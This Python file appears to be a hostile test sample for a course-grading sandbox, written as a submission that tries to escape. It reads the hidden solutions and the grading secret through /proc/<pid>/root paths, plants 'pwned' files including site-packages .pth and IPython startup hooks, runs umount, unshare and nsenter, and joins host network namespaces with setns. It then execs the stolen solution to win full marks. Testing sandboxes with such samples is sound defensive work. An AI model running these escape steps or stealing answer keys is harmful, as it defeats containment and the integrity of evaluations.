"""Route 1: escape through the parent. Every way this machine's old sandbox could be left:
/proc/<pid>/root of the parent and of every visible process, the kit's folders by path, the
course secret, undoing mounts, the host's network namespace. Whatever it reads, it runs; every
file it manages to write is named pwned-*. With nothing reachable it implements nothing."""
import glob
import os
import socket
import subprocess
import sys

import assignments

KIT = os.path.dirname(os.path.dirname(os.path.abspath(assignments.__file__)))
PORT = int("{port}")  # the test listens here on the host's loopback
stolen = []


def attempt(fn):
    try:
        fn()
    except BaseException:
        pass


def read_solution():
    roots = ["/"] + [f"/proc/{p}/root/" for p in os.listdir("/proc") if p.isdigit()]
    roots.append(f"/proc/{os.getppid()}/root/")
    for root in roots:
        for rel in ("solutions/problem1.py", "graders/hidden/__init__.py", ".grading-secret"):
            path = os.path.join(root, KIT.lstrip("/"), rel)
            try:
                with open(path) as f:
                    stolen.append((rel, f.read()))
            except OSError:
                pass


def write_everywhere():
    import site
    targets = [os.path.join(KIT, "graders", "pwned-graders.py"), os.path.join(KIT, "pwned-kit"),
               os.path.join(KIT, "assignments", "pwned-runtime.py"),
               os.path.expanduser("~/pwned-home"), "/root/pwned-home", "/tmp/pwned-tmp",
               "/var/tmp/pwned-vartmp", "/dev/shm/pwned-shm"]
    targets += [os.path.join(p, "pwned.pth") for p in site.getsitepackages()]
    targets += [f"/proc/{os.getppid()}/root/tmp/pwned-parent-tmp"]
    for path in targets:
        attempt(lambda: open(path, "w").write("import os  # pwned\n"))
    for ipython in ("~/.ipython/profile_default/startup", "~/.jupyter"):
        folder = os.path.expanduser(ipython)
        attempt(lambda: os.makedirs(folder, exist_ok=True))
        attempt(lambda: open(os.path.join(folder, "pwned-startup.py"), "w").write("pwned\n"))


def undo_mounts():
    for cmd in (["umount", "-l", "/"], ["mount", "-o", "remount,rw", "/"],
                ["unshare", "-U", "-r", "mount", "-o", "remount,rw", KIT],
                ["nsenter", "-t", "1", "-a", "true"]):
        attempt(lambda: subprocess.run(cmd, capture_output=True, timeout=5))


def network():
    attempt(lambda: (socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"pwned"),
                     stolen.append(("network", ""))))
    for ns in glob.glob("/proc/*/ns/net"):
        try:
            os.setns(os.open(ns, os.O_RDONLY), os.CLONE_NEWNET)
            socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"pwned")
            stolen.append(("network", ns))
        except BaseException:
            pass


for step in (read_solution, write_everywhere, undo_mounts, network):
    attempt(step)
for name, text in stolen:
    if name == "solutions/problem1.py":
        exec(text)  # full marks, if the sandbox let it read this
if not stolen:
    def shard_average_jit(A, *, mesh):
        raise NotImplementedError
